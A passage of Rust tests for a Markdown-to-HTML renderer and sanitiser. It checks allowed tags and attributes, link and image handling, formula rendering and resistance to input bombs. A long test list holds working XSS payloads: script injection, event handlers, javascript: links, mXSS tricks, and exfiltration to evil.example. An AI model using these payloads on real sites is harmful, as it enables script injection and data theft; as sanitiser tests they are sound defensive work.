            "h5",
            "h6",
            "hr",
            "li",
            "ol",
            "p",
            "pre",
            "span",
            "strong",
            "sub",
            "sup",
            "table",
            "tbody",
            "td",
            "th",
            "thead",
            "tr",
            "ul",
        ];
        let mut open = Vec::new();
        let mut rest = html;
        while let Some(start) = rest.find('<') {
            let end = start
                + rest[start..]
                    .find('>')
                    .unwrap_or_else(|| panic!("{context}: no end of a tag in {html}"));
            let tag = &rest[start + 1..end];
            rest = &rest[end + 1..];
            if let Some(name) = tag.strip_prefix('/') {
                assert_eq!(open.pop(), Some(name), "{context}: {html}");
                continue;
            }
            let (name, attributes) = tag.split_once(' ').unwrap_or((tag, ""));
            let is_math = name.starts_with('m');
            assert!(
                HTML.contains(&name) || is_math,
                "{context}: <{name}> in {html}"
            );
            if !VOID.contains(&name) {
                open.push(name);
            }
            let mut attributes = attributes.trim();
            while !attributes.is_empty() {
                let (attribute, after) = attributes
                    .split_once("=\"")
                    .unwrap_or_else(|| panic!("{context}: {tag}"));
                let (value, after) = after
                    .split_once('"')
                    .unwrap_or_else(|| panic!("{context}: {tag}"));
                attributes = after.trim();
                let is_known = match attribute {
                    "href" => ["http://", "https://", "mailto:"]
                        .iter()
                        .any(|scheme| value.to_lowercase().starts_with(scheme)),
                    "target" => value == "_blank",
                    "rel" => value == "noopener noreferrer nofollow ugc",
                    "dir" => matches!(value, "auto" | "ltr"),
                    "role" => value == "group",
                    "tabindex" => value == "0",
                    "aria-label" => matches!(value, "Table" | "Code"),
                    "start" => value.parse::<i32>().is_ok(),
                    "title" => name == "a",
                    "class" => true,
                    "style" | "id" | "name" | "src" | "srcset" | "action" => false,
                    other => is_math && !other.starts_with("on") && !other.contains("href"),
                };
                assert!(is_known, "{context}: {attribute}=\"{value}\" in {html}");
            }
            assert!(
                name != "a" || tag.contains("rel=\""),
                "{context}: a link without rel in {html}"
            );
        }
        assert!(open.is_empty(), "{context}: {open:?} not closed in {html}");
        assert!(
            !html.contains([FORMULA_OPEN, FORMULA_CLOSE, FORMULA_PENDING]),
            "{context}: {html}"
        );
    }

    /// An answer with something of everything.
    const ANSWER: &str = "# Title\n\nSome *text* with `code`, $x^2$ and \\(y_1\\).\n\n1. one\n   - [x] two\n2. three\n\n```rust\nfn main() {}\n```\n\n\\[\nx\n+ y\n\\]\n\n| a | b |\n|:-:|--:|\n| 1 | $2$ |\n\n> قال *مرحبا*\n\n[a](https://ok.example) ![b](https://ok.example) <br> H<sub>2</sub>O $$\\frac{1}{2}$$ end";

    /// Each is dangerous to a renderer that trusts it.
    const PAYLOADS: &[&str] = &[
        "<script>alert(1)</script>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script src=//evil.example/x.js></script>",
        "<img src=x onerror=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<img src=\"x`\" `onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg onload=alert(1)>#x\"></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
        "<embed src=javascript:alert(1)>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<base href=//evil.example/>",
        "<style>@import '//evil.example/x.css';</style>",
        "<div style=\"background:url(//evil.example/x)\">x</div>",
        "<details open ontoggle=alert(1)>x</details>",
        "<body onload=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<form action=//evil.example><input name=password><button>go</button></form>",
        "<button formaction=javascript:alert(1)>x</button>",
        "<a href=javascript:alert(1)>x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
        "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
        "<title><a href=\"</title><img src=x onerror=alert(1)>\">",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)>",
        "<![CDATA[><img src=x onerror=alert(1)>]]>",
        "<?xml version=\"1.0\"?><x onload=alert(1)>",
        "</p><script>alert(1)</script>",
        "<br onclick=alert(1)>",
        "<sub onmouseover=alert(1)>x</sub>",
        "<sub><sup><sub>x</sup></sub> <sup>",
        "<sup></p></li></table><script>alert(1)</script>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](file:///etc/passwd)",
        "[x](blob:https://x.example/1)",
        "[x](//evil.example/x)",
        "[x](/admin/delete)",
        "[x](https://ok.example/\" onclick=\"alert(1))",
        "[x](https://ok.example/ \"\\\" onclick=\\\"alert(1)\")",
        "[x](https://ok.example/'onclick='alert(1)')",
        "[x](https://user@evil.example:80\\@ok.example/)",
        "<javascript:alert(1)>",
        "<https://ok.example/\"onclick=alert(1)>",
        "[x][1]\n\n[1]: javascript:alert(1)",
        "[x][1]\n\n[1]: https://ok.example/ \"a\" onclick=alert(1)",
        "![x](https://evil.example/?q=secret)",
        "![x](javascript:alert(1))",
        "![x\" onerror=\"alert(1)](https://evil.example/x)",
        "![![nested](https://a.example/1)](https://b.example/2)",
        "[![x](https://evil.example/p.png)](javascript:alert(1))",
        "```html\n<script>alert(1)</script>\n```",
        "```\"><script>alert(1)</script>\ncode\n```",
        "```</figcaption><script>alert(1)</script>\ncode",
        "~~~ x\" onload=\"alert(1)\ncode\n~~~",
        "`</code><script>alert(1)</script>`",
        "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|---|\n| <img src=x onerror=alert(1)> | `<b>` |",
        "| a |\n|---|\n| </td></tr></table><script>alert(1)</script> |",
        "$\\href{javascript:alert(1)}{x}$",
        "$\\url{javascript:alert(1)}$",
        "$\\text{<script>alert(1)</script>}$",
        "$$\\text{</mtext></math><img src=x onerror=alert(1)>}$$",
        "$x<script>alert(1)</script>$",
        "$\\color{red\" onclick=\"alert(1)}{x}$",
        "\\(\\text{<img src=x onerror=alert(1)>}\\)",
        "\\[\\class{x\" onload=\"alert(1)}{y}\\]",
        "\\[\\style{background:url(//evil.example)}{y}\\]",
        "\\[\\html{<b>}{y}\\]",
        "$\\includegraphics{https://evil.example/x}$",
        "\u{E000}0\u{E001} $x$ \u{E000}0\u{E001}",
        "[\u{E000}0\u{E001}](https://ok.example/\u{E000}0\u{E001}) $\\text{x}$",
        "\u{202E}<script>alert(1)</script>",
        "\0<scr\0ipt>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
        "&#x3c;script&#x3e;",
        "<a href=\"https://ok.example\" onclick=alert(1)>x</a>",
        "# <img src=x onerror=alert(1)>",
        "> <iframe src=//evil.example>",
        "- [x] <input onfocus=alert(1) autofocus>",
        "<https://evil.example/<script>alert(1)</script>>",
        "mailto:a@b.example?subject=<script> <mailto:x@evil.example>",
    ];

    #[test]
    fn no_payload_nor_any_part_of_one_becomes_active() {
        assert!(PAYLOADS.len() >= 60);
        for payload in PAYLOADS {
            for (end, _) in payload.char_indices().chain([(payload.len(), ' ')]) {
                check_safe(&render(&payload[..end]), payload);
            }
            for (start, _) in payload.char_indices() {
                check_safe(&render(&payload[start..]), payload);
            }
            for around in [
                "- {}",
                "> {}",
                "**{}**",
                "`a` {} `b`",
                "| a |\n|---|\n| {} |",
                "$x$ {} $$y$$",
                "text\n{}\ntext",
                "<b>{}</b>",
                "[{}](https://ok.example)",
            ] {
                check_safe(&render(&around.replace("{}", payload)), payload);
            }
        }
    }

    #[test]
    fn sanitising_again_changes_nothing() {
        for payload in PAYLOADS {
            let (html, _) = write_html(payload, 3);
            let once = sanitise(&html);
            assert_eq!(sanitise(&once), once, "{payload}");
        }
    }

    #[test]
    fn what_is_taken_without_the_sanitiser_is_what_the_sanitiser_gives() {
        let mut n_strict = 0;
        let mut n = 0;
        let mut compare = |markdown: &str| {
            let (html, _) = write_html(markdown, 3);
            n += 1;
            if strict::is_strict(&html) {
                n_strict += 1;
                assert_eq!(sanitise(&html), html, "{markdown}");
            }
            // Neither is a cut or damaged one ever mistaken for sound.
            for (at, _) in html.char_indices().step_by(7) {
                for damaged in [
                    html[..at].to_owned(),
                    html[at..].to_owned(),
                    format!("{}<b>{}", &html[..at], &html[at..]),
                    format!("{}\"{}", &html[..at], &html[at..]),
                ] {
                    if strict::is_strict(&damaged) {
                        assert_eq!(sanitise(&damaged), damaged, "{markdown}");
                    }
                }
            }
        };
        for payload in PAYLOADS.iter().chain(&[ANSWER]) {
            for (end, _) in payload.char_indices().step_by(3) {
                compare(&payload[..end]);
            }
            for around in [
                "{}",
                "- {}",
                "> {}",
                "**{}**",
                "| a |\n|---|\n| {} |",
                "1. a\n   - {}\n\n   b",
                "[{}](https://ok.example/a)",
                "# {}",
            ] {
                compare(&around.replace("{}", payload));
            }
        }
        assert!(
            2 * n_strict > n,
            "only {n_strict} of {n} are recognised: the check is of no use then"
        );
    }

    #[test]
    fn the_sanitiser_alone_stops_every_payload() {
        for payload in PAYLOADS {
            let html = sanitise(&payload.replace([FORMULA_OPEN, FORMULA_CLOSE], ""));
            check_safe(&html.replace("&nbsp;", " "), payload);
        }
    }

    #[test]
    fn every_beginning_of_an_answer_is_well_formed() {
        for (end, _) in ANSWER.char_indices() {
            check_safe(&render(&ANSWER[..end]), &ANSWER[..end]);
        }
    }

    #[track_caller]
    fn check(markdown: &str, expected: &str) {
        assert_eq!(render(markdown), expected, "{markdown}");
    }

    #[test]
    fn blocks_have_their_direction_and_headings_stand_below_the_page() {
        check(
            "# one\n\n#### four",
            r#"<h3 dir="auto">one</h3><h6 dir="auto">four</h6>"#,
        );
        check(
            "שלום\n\n- אחד\n- two",
            r#"<p dir="auto">שלום</p><ul dir="auto"><li>אחד</li><li>two</li></ul>"#,
        );
        check(
            "> מרחבא `x`",
            r#"<blockquote dir="auto"><p>מרחבא <code dir="ltr">x</code></p></blockquote>"#,
        );
        check(
            "```py\nx\n```",
            "<figure class=\"code\" dir=\"ltr\"><figcaption>py</figcaption><pre role=\"group\" aria-label=\"Code\" tabindex=\"0\"><code>x\n</code></pre></figure>",
        );
        check(
            "| a | b |\n|:-:|--:|\n| 1 | 2 |",
            r#"<div class="table" role="group" aria-label="Table" tabindex="0"><table dir="auto"><thead><tr><th class="center">a</th><th class="right">b</th></tr></thead><tbody><tr><td class="center">1</td><td class="right">2</td></tr></tbody></table></div>"#,
        );
        check("3. x", r#"<ol start="3" dir="auto"><li>x</li></ol>"#);
        assert!(render_document("# one", 1).starts_with("<h1"));
    }

    #[test]
    fn raw_html_is_shown_and_not_used() {
        check("use <b> here", r#"<p dir="auto">use &lt;b&gt; here</p>"#);
        check(
            "a<br/>b H<sub>2</sub>O",
            r#"<p dir="auto">a<br>b H<sub>2</sub>O</p>"#,
        );
        check("x <sup>2", r#"<p dir="auto">x <sup>2</sup></p>"#);
    }

    #[test]
    fn links_show_where_they_lead_and_images_are_not_loaded() {
        let rel = r#"target="_blank" rel="noopener noreferrer nofollow ugc""#;
        check(
            "[my bank](https://evil.example/x?y=1&z)",
            &format!(
                r#"<p dir="auto"><a href="https://evil.example/x?y=1&amp;z" title="evil.example" {rel}>my bank</a><span class="host"> (evil.example)</span></p>"#
            ),
        );
        check(
            "https://ok.example/a",
            &format!(
                r#"<p dir="auto"><a href="https://ok.example/a" title="ok.example" {rel}>https://ok.example/a</a></p>"#
            ),
        );
        check(
            "[https://bank.example](https://bank.example@evil.example/)",
            &format!(
                r#"<p dir="auto"><a href="https://bank.example@evil.example/" title="evil.example" {rel}>https://bank.example</a><span class="host"> (evil.example)</span></p>"#
            ),
        );
        check(
            "[x](javascript:alert(1)) [y](/z)",
            r#"<p dir="auto">x y</p>"#,
        );
        check(
            "![a cat](https://evil.example/?q=secret)",
            r#"<p dir="auto"><span class="image-note">image: a cat (evil.example)</span></p>"#,
        );
    }

    #[test]
    fn prices_are_not_formulas() {
        for text in [
            "$5 and $6",
            "between $5-$6",
            "5$ for me, 10$ for you",
            "US$ 5, or $7.50.",
            "$5, $6, and $7",
            "a $20 bill",
            "costs $5",
        ] {
            check(text, &format!(r#"<p dir="auto">{text}</p>"#));
        }
    }

    #[test]
    fn formulas_of_all_four_delimiters_are_typeset() {
        for text in ["$x^2$", "\\(x^2\\)"] {
            check(
                text,
                r#"<p dir="auto"><math display="inline"><msup><mi>x</mi><mn>2</mn></msup></math></p>"#,
            );
        }
        for text in ["$$x^2$$", "\\[x^2\\]", "\\[\nx^2\n\\]", "$$\nx^2\n$$"] {
            check(
                text,
                r#"<p dir="auto"><math display="block"><msup><mi>x</mi><mn>2</mn></msup></math></p>"#,
            );
        }
        let known = [
            r"\frac{-b \pm \sqrt{b^2 - 4ac}}{2a}",
            r"\int_0^\infty e^{-x^2}\,dx = \frac{\sqrt{\pi}}{2}",
            r"\sum_{i=1}^{n} i = \frac{n(n+1)}{2}",
            r"\begin{pmatrix} a & b \\ c & d \end{pmatrix}",
            r"\begin{cases} x & x > 0 \\ -x & \text{otherwise} \end{cases}",
            r"\mathbb{R} \to \mathcal{L}(\vec{v}, \hat{w}) \cdot \overline{z}",
            r"\left( \frac{a}{b} \right)^{n} \le \lim_{n \to \infty} a_n",
            r"\boxed{42}",
            r"\text{area} = \pi r^2 \quad \text{(in m}^2\text{)}",
            r"P(A \mid B) = \frac{P(B \mid A) P(A)}{P(B)}",
            r"\nabla \times \mathbf{E} = -\frac{\partial \mathbf{B}}{\partial t}",
            r"x = 1 \\ y = 2",
            r"\binom{n}{k} \neq \dfrac{1}{2} \approx 0.5",
            r"\operatorname{argmax}_\theta \log p_\theta(x)",
            r"90^\circ \times \underbrace{a+b}_{c} \Rightarrow \ldots",
        ];
        for source in known {
            let html = render(&format!("\\[{source}\\]"));
            assert!(html.contains("display=\"block\">"), "{source}: {html}");
            check_safe(&html, source);
        }
    }

    #[test]
    fn a_formula_of_several_lines_is_no_list() {
        let html = render("so\n\\[\nx\n- y\n+ z\n\\]\nend");
        assert!(
            html.contains("<math") && !html.contains("<li>") && !html.contains("<h"),
            "{html}"
        );
        let html = render("1. first\n\n   $$\n   a\n   - b\n   $$\n\n2. second");
        assert!(
            html.contains("<math") && html.matches("<li>").count() == 2,
            "{html}"
        );
    }

    #[test]
    fn an_unfinished_or_unknown_formula_shows_its_source() {
        check(
            "so \\(x_1 + y_2",
            r#"<p dir="auto">so <code class="math" dir="ltr">x_1 + y_2</code></p>"#,
        );
        check(
            "so\n\n\\[\nx_1 *a*\n- b_2",
            "<p dir=\"auto\">so</p><p dir=\"auto\"><code class=\"math\" dir=\"ltr\">x_1 *a* - b_2</code></p>",
        );
        check(
            "$\\ce{H2O}$",
            r#"<p dir="auto"><code class="math" dir="ltr">\ce{H2O}</code></p>"#,
        );
        check(
            "a \\(b\n\nc",
            r#"<p dir="auto">a \(b</p><p dir="auto">c</p>"#,
        );
    }

    #[test]
    fn code_is_never_a_formula() {
        for code in [
            "`\\(x\\)`",
            "`$x$`",
            "```\n\\[\nx\n- y\n\\]\n```",
            "~~~\n$$\na\n- b\n$$\n~~~",
            "- ```\n  \\(a\n  ```",
        ] {
            let html = render(code);
            assert!(
                html.contains("<code")
                    && !html.contains("<math")
                    && !html.contains("class=\"math\""),
                "{html}"
            );
        }
        assert!(render("```\n\\[\nx\n- y\n\\]\n```").contains("\\[\nx\n- y\n\\]\n"));
    }

    #[test]
    fn bombs_end_in_time_and_on_a_small_stack() {
        let n = 1 << 17;
        let bombs: Vec<(&str, String)> = vec![
            ("quotes", ">".repeat(n)),
            (
                "lists",
                (0..2000)
                    .map(|i| format!("{}- x\n", "  ".repeat(i % 500)))
                    .collect(),
            ),
            ("brackets", "[".repeat(n)),
            ("images", "![".repeat(n / 2)),
            ("links", "[a](".repeat(n / 4)),
            ("emphasis", "*a **b ".repeat(n / 7)),
            (
                "emphasis pairs",
                format!("{}x{}", "*_".repeat(n / 8), "_*".repeat(n / 8)),
            ),
            ("backticks", (0..500).map(|i| "`".repeat(i) + " ").collect()),
            ("dollars", "$a".repeat(n / 2)),
            ("spaced dollars", "$$a $ ".repeat(n / 6)),
            ("open formulas", "\\(a ".repeat(n / 4)),
            ("open displays", "\\[a\n".repeat(n / 4)),
            ("display lines", "$$ a $$ $$\n".repeat(n / 11)),
            (
                "braces",
                format!("${}x{}$", "{".repeat(2000), "}".repeat(2000)),
            ),
            ("roots", format!("$${}x$$", "\\sqrt".repeat(800))),
            ("scripts", format!("$${}$$", "x^".repeat(2000))),
            ("fractions", format!("$${}x$$", r"\frac x".repeat(570))),
            ("mixed", format!("$${}x$$", r"\sqrt {x^\frac".repeat(270))),
            ("left", format!("$${}x$$", "\\left(".repeat(600))),
            ("tags", "<a".repeat(n / 2)),
            ("open tags", "<sub>".repeat(n / 5)),
            ("comments", "<!--".repeat(n / 4)),
            ("entities", "&amp".repeat(n / 4)),
            (
                "table",
                format!(
                    "{}\n{}\n{}",
                    "|a".repeat(2000),
                    "|-".repeat(2000),
                    "|b\n".repeat(2000)
                ),
            ),
            ("pipes", "|".repeat(n)),
            ("addresses", "http://a.b ".repeat(n / 11)),
            ("at signs", "a@".repeat(n / 2)),
            ("www", "www.".repeat(n / 4)),
            ("underscores", "a_".repeat(n / 2)),
            (
                "references",
                (0..3000).map(|i| format!("[{i}]: x\n")).collect(),
            ),
            ("plain", "word ".repeat(n / 5)),
        ];
        for (name, bomb) in bombs {
            let start = std::time::Instant::now();
            let html = std::thread::Builder::new()
                .stack_size(1 << 20)
                .spawn(move || render(&bomb))
                .unwrap()
                .join()
                .unwrap();
            let took = start.elapsed();
            check_safe(&html, name);
            // Unoptimised: a quadratic search would take minutes.
            assert!(took.as_secs_f64() < 20.0, "{name} took {took:?}");
        }
    }

    #[test]
    fn a_text_that_is_too_long_is_shown_as_written() {
        let html = render(&"<b>".repeat(TEXT_BYTES_MAX));
        assert!(html.starts_with(r#"<pre class="plain" dir="auto">&lt;b&gt;"#));
    }
}
